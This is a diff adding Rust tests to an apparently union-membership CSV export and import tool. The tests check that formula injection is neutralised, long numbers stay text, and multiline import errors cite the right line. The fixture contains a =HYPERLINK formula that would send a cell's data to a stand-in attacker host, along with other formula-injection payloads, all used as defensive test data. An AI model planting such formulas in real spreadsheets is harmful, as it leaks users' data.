@@ -1052,3 +1052,112 @@ fn cards_are_never_signed_with_a_date_no_venue_can_read_or_one_past() {
         assert!(!dir.join("out").exists(), "nothing written");
     }
 }
+
+#[test]
+fn an_exported_sheet_runs_no_formula_keeps_long_numbers_as_text_and_still_imports() {
+    let dir = temp_dir("formula");
+    let db = desk_with_requests(&dir);
+    // A transfer whose every free-text field is a formula as a spreadsheet reads it.
+    const EVIL: &str = "00000000-0000-4000-8000-0000000000e1";
+    let hyperlink = r#"=HYPERLINK("http://evil.example/?"&E3,"x")"#;
+    let payload = serde_json::json!({
+        "name": hyperlink,
+        "phone": "13912345678",
+        "id_number": "11010519491231002X",
+        "occupation": "@SUM(1)",
+        "employer": "+1+1",
+        "union": "-2+3",
+        "from_union": "\t=1+1",
+    })
+    .to_string();
+    let stored = store(&db, &[plain(EVIL, "transfer", RECEIVED, &payload)], None);
+    assert_eq!(stored.new, 1);
+
+    let pending = dir.join("pending.csv");
+    succeeded(&desk(&["export", "--out", pending.to_str().unwrap()], &db));
+    let text = String::from_utf8(std::fs::read(&pending).unwrap()).unwrap();
+    let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
+    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
+    let at = |name: &str| header.iter().position(|h| h == name).unwrap();
+    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
+    let row = |id: &str| rows.iter().find(|r| &r[at("id")] == id).unwrap().clone();
+    let evil = row(EVIL);
+    for (column, expected) in [
+        ("name", format!("'{hyperlink}")),
+        ("occupation", "'@SUM(1)".into()),
+        ("employer", "'+1+1".into()),
+        ("union", "'-2+3".into()),
+        ("from_union", "'\t=1+1".into()),
+        // Long numbers stay text (Excel would show 1.39123E+10 and lose digits).
+        ("phone", "'13912345678".into()),
+        ("id_number", "'11010519491231002X".into()),
+    ] {
+        assert_eq!(evil[at(column)], expected, "{column} in:\n{text}");
+    }
+    // No cell of the sheet starts with what a spreadsheet runs or turns into a number.
+    for record in &rows {
+        for cell in record {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "`{cell}` in:\n{text}"
+            );
+            assert!(
+                !(cell.len() >= 11 && cell.bytes().all(|b| b.is_ascii_digit())),
+                "`{cell}` in:\n{text}"
+            );
+        }
+    }
+    // The card's member number, filled in by the member, is kept as text too.
+    assert_eq!(&row(CARD)[at("member_no")], "'3715002026000999");
+
+    // The clerk decides; the spreadsheet kept the `'` of the card's member number and
+    // of a note as typed. The import reads through them.
+    let filled = fill(
+        &text,
+        &[
+            (EVIL, "rejected", "", "'@SUM(1)"),
+            (CARD, "'approved", "'3715002026000999", "'=欢迎"),
+            (JOIN, "approved", "'3715002026000777", ""),
+        ],
+    );
+    std::fs::write(&pending, &filled).unwrap();
+    let run = desk(&["import", "--file", pending.to_str().unwrap()], &db);
+    assert!(
+        succeeded(&run).contains("recorded 3 decision(s)"),
+        "{filled}"
+    );
+    let after = statuses(&db, &dir);
+    let evil = status_for(EVIL, &after).unwrap();
+    assert_eq!(evil.state, RequestState::Rejected);
+    assert_eq!(evil.note.as_deref(), Some("@SUM(1)"));
+    let card = status_for(CARD, &after).unwrap();
+    assert_eq!(card.state, RequestState::Approved);
+    assert_eq!(card.member_no.as_deref(), Some("3715002026000999"));
+    assert_eq!(card.note.as_deref(), Some("=欢迎"));
+    let join = status_for(JOIN, &after).unwrap();
+    assert_eq!(join.member_no.as_deref(), Some("3715002026000777"));
+}
+
+#[test]
+fn an_error_after_a_cell_with_a_line_break_names_its_physical_line() {
+    let dir = temp_dir("multiline");
+    let db = desk_with_requests(&dir);
+    let file = dir.join("filled.csv");
+    // Row 2 holds a note over two lines (2 and 3); row 3 starts on line 4.
+    std::fs::write(
+        &file,
+        format!(
+            "\u{feff}id,kind,decision,member_no,note\n\
+             {JOIN},join,approved,3715002026000777,\"欢迎\n加入\"\n\
+             {TRANSFER},transfer,yes,,\n"
+        ),
+    )
+    .unwrap();
+    let run = desk(&["import", "--file", file.to_str().unwrap()], &db);
+    assert!(!run.status.success());
+    let said = String::from_utf8_lossy(&run.stderr);
+    let name = file.to_str().unwrap();
+    let expected = format!("{name}:4: decision `yes`");
+    assert!(said.contains(&expected), "missing `{expected}` in:\n{said}");
+    assert!(!said.contains(&format!("{name}:3:")), "{said}");
+}
